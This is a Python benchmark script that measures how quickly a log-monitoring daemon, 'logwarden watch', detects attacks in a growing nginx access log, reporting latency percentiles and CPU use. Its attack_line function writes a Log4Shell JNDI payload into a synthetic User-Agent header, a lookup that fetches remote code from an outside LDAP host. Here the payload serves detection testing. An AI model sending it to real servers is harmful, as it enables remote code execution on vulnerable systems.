"""Append-to-finding latency of `logwarden watch` under a steady write load.

    .venv/bin/python bench/bench_latency.py [--rate 2000] [--seconds 60] [--attack-every 1000]
                                            [--rotate-every 0] [--polling] [--escalate]

A writer appends realistic nginx access lines (bench/generate_logs.py, current timestamps) to
a log in a temporary directory at a steady `--rate` lines per second, in 10 ms slices, with a
Log4Shell request from a new attacker address every `--attack-every` lines. A `logwarden
watch` child process (the one next to this Python) watches the directory with a fresh state
file. A poller reads the daemon's findings table (read-only, every 5 ms) and records when each
attacker's finding became visible, i.e. committed. Latency = that instant minus the wall time at
which the attack line had been written and flushed: the whole path, inotify event, coalescing,
discovery, read, parse, rules, SQLite commit.

`--rotate-every S` renames the log and starts a new one every S seconds (logrotate `create`).
Printed: lines written and read, attacks and findings (every attack must be found exactly once,
or the script fails), latency p50/p90/p99/max against the target p99 < 2 s, and the daemon's
CPU use. Exit status: 0, 1 when the run is inconsistent, 3 with --strict when p99 misses.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import generate_logs  # noqa: E402

from detector.state.readonly import connect_read_only  # noqa: E402

TARGET_P99 = 2.0
SLICE = 0.01  # seconds per write


def attack_line(k: int, at: datetime) -> str:
    ip = f"2001:db8:bad::{k + 1:x}"
    ts = at.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return (f'{ip} - - [{ts}] "GET /search?q=shoes HTTP/1.1" 200 812 "-" '
            f'"Mozilla/5.0 ${{jndi:ldap://203.0.113.200:1389/Exploit{k}}}"\n'), ip


class Poller(threading.Thread):
    """Records the first instant each attacker's finding is visible in the state database."""

    def __init__(self, state: Path) -> None:
        super().__init__(daemon=True)
        self.state = state
        self.seen: dict[str, float] = {}
        self.stop = threading.Event()

    def run(self) -> None:
        conn = None
        last = ""
        while not self.stop.is_set():
            try:
                if conn is None:
                    if not self.state.exists():
                        time.sleep(0.005)
                        continue
                    conn = connect_read_only(self.state, timeout=5)
                rows = conn.execute(
                    "SELECT detected_at, id, entity_key FROM findings"
                    " WHERE scenario_id = 'web-log4shell-jndi' AND detected_at >= ? ORDER BY detected_at",
                    (last,),
                ).fetchall()
                now = time.time()
                for detected_at, _id, entity_key in rows:
                    ip = json.loads(entity_key).get("source.ip")
                    if ip and ip not in self.seen:
                        self.seen[ip] = now
                    last = max(last, detected_at)
            except sqlite3.OperationalError:
                pass  # tables not created yet
            time.sleep(0.005)
        if conn is not None:
            conn.close()


def lines_committed(state: Path) -> int:
    conn = connect_read_only(state, timeout=5)
    try:
        return int(conn.execute("SELECT COALESCE(SUM(lines), 0) FROM ingest_log").fetchone()[0])
    finally:
        conn.close()


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(q * (len(ordered) - 1))))]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rate", type=int, default=2000, help="lines per second written")
    parser.add_argument("--seconds", type=float, default=60.0, help="duration of the write load")
    parser.add_argument("--attack-every", type=int, default=1000, help="one attack line every N lines")
    parser.add_argument("--rotate-every", type=float, default=0.0, help="rename+create the log every S seconds")
    parser.add_argument("--polling", action="store_true", help="run the daemon with --polling")
    parser.add_argument("--escalate", action="store_true", help="let the daemon run escalation too")
    parser.add_argument("--settle", type=float, default=None, help="the daemon's hint coalescing (seconds)")
    parser.add_argument("--logwarden", default=str(Path(sys.executable).with_name("logwarden")))
    parser.add_argument("--strict", action="store_true", help="exit 3 when p99 misses the target")
    args = parser.parse_args(argv)

    with tempfile.TemporaryDirectory(prefix="logwarden-latency-") as tmp:
        root = Path(tmp)
        logs = root / "logs"
        logs.mkdir()
        log = logs / "access.log"
        log.touch()
        state = root / "state" / "state.db"
        cmd = [args.logwarden, "watch", str(logs), "--state", str(state), "--log-format", "json"]
        cmd += [] if args.escalate else ["--no-escalate"]
        cmd += ["--polling"] if args.polling else []
        cmd += ["--settle", str(args.settle)] if args.settle is not None else []
        stderr = open(root / "watch.stderr", "wb")  # noqa: SIM115
        daemon = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=stderr)
        deadline = time.monotonic() + 30
        while b'"event": "started"' not in (root / "watch.stderr").read_bytes():
            if daemon.poll() is not None or time.monotonic() > deadline:
                print((root / "watch.stderr").read_text(), file=sys.stderr)
                return 1
            time.sleep(0.05)
        cpu_before = cpu_seconds(daemon.pid)
        poller = Poller(state)
        poller.start()

        total = int(args.rate * args.seconds)
        per_slice = max(1, round(args.rate * SLICE))
        benign = generate_logs.generate("access", total, seed=3, start=datetime.now(timezone.utc),
                                        rate=args.rate, attack_rate=0.0)
        appended: dict[str, float] = {}
        written = attacks = 0
        handle = open(log, "a", encoding="utf-8")  # noqa: SIM115
        started = time.monotonic()
        next_slice, next_rotation = started, started + (args.rotate_every or float("inf"))
        since_attack = 0
        while written < total:
            chunk: list[str] = []
            pending_ip = None
            for line in benign:
                chunk.append(line)
                since_attack += 1
                if since_attack >= args.attack_every:
                    since_attack = 0
                    text, pending_ip = attack_line(attacks, datetime.now(timezone.utc))
                    chunk.append(text)
                    attacks += 1
                if len(chunk) >= per_slice:
                    break
            if not chunk:
                break
            handle.write("".join(chunk))
            handle.flush()
            if pending_ip is not None:
                appended[pending_ip] = time.time()
            written += len(chunk)
            if time.monotonic() >= next_rotation:
                handle.close()
                os.replace(log, logs / f"access.log.{int(next_rotation - started)}")
                handle = open(log, "a", encoding="utf-8")  # noqa: SIM115
                next_rotation += args.rotate_every
            next_slice += SLICE
            pause = next_slice - time.monotonic()
            if pause > 0:
                time.sleep(pause)
        handle.close()
        elapsed = time.monotonic() - started

        wait_until = time.monotonic() + 30
        while len(poller.seen) < attacks and time.monotonic() < wait_until:
            time.sleep(0.05)
        while lines_committed(state) < written and time.monotonic() < wait_until:
            time.sleep(0.05)
        poller.stop.set()
        poller.join()
        cpu = cpu_seconds(daemon.pid) - cpu_before
        daemon.send_signal(signal.SIGTERM)
        code = daemon.wait(timeout=60)
        stderr.close()
        lines_read = lines_committed(state)
        conn = connect_read_only(state, timeout=5)
        found = conn.execute(
            "SELECT COUNT(*), COUNT(DISTINCT entity_key) FROM findings WHERE scenario_id = 'web-log4shell-jndi'"
        ).fetchone()
        conn.close()

    latencies = [poller.seen[ip] - appended[ip] for ip in appended if ip in poller.seen]
    print(f"write load      {written:,} lines in {elapsed:.1f} s = {written / elapsed:,.0f} lines/s"
          f"{', rename+create every %gs' % args.rotate_every if args.rotate_every else ''}"
          f"{', polling observer' if args.polling else ''}")
    print(f"daemon          read {lines_read:,} lines; exit {code}; CPU {cpu:.1f} s "
          f"({100 * cpu / elapsed:.0f}% of one core)")
    print(f"attacks         {attacks} written, {len(latencies)} found, findings {found[0]} (distinct {found[1]})")
    ok = code == 0 and lines_read == written and found[0] == found[1] == attacks and len(latencies) == attacks
    if not latencies:
        print("no latency measured", file=sys.stderr)
        return 1
    p50, p90, p99 = (percentile(latencies, q) for q in (0.5, 0.9, 0.99))
    verdict = "ok" if p99 < TARGET_P99 else "MISSED"
    print(f"latency (s)     p50 {p50:.3f}  p90 {p90:.3f}  p99 {p99:.3f}  max {max(latencies):.3f}  "
          f"mean {statistics.fmean(latencies):.3f}   target p99 < {TARGET_P99:g} {verdict}")
    if not ok:
        print("inconsistent run: lines or findings do not match what was written", file=sys.stderr)
        return 1
    return 3 if args.strict and verdict != "ok" else 0


if __name__ == "__main__":
    sys.exit(main())
